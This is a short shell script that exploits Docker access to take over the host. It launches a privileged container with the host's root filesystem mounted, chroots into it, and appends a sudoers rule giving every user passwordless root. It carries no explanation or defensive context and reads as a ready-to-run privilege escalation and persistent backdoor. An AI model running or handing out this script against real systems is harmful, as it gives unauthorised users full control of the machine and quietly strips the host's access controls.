#!/bin/sh
docker run --rm --privileged -v /:/host alpine chroot /host sh -c 'echo "ALL ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'
